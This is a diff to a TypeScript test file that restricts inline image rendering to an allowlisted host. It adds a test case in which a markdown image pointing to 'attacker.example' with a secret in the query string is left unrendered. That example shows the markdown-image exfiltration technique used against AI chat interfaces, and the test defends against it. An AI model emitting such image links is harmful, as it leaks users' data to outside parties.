@@ -4,7 +4,7 @@ import { createInlineImages, type InlinePiece } from "../../../src/gateway/inlin
 import { pixelUri } from "./harness.ts";
 
 function readAll(parts: readonly string[], maxDataChars = 100_000): InlinePiece[] {
-  const inline = createInlineImages(maxDataChars);
+  const inline = createInlineImages(maxDataChars, (url) => new URL(url).host === "a.example");
   return joinText([...parts.flatMap((part) => inline.push(part)), ...inline.end()]);
 }
 
@@ -90,6 +90,10 @@ describe("inline images", () => {
           source: '![x](https://a.example/x.png "t")',
         },
       ],
+    ],
+    [
+      "![x](https://attacker.example/?d=secret)",
+      [{ kind: "text", text: "![x](https://attacker.example/?d=secret)" }],
     ],
     ["![x](relative.png)", [{ kind: "text", text: "![x](relative.png)" }]],
     ["![x]\n(https://a.example/x.png)", [{ kind: "text", text: "![x]\n(https://a.example/x.png)" }]],
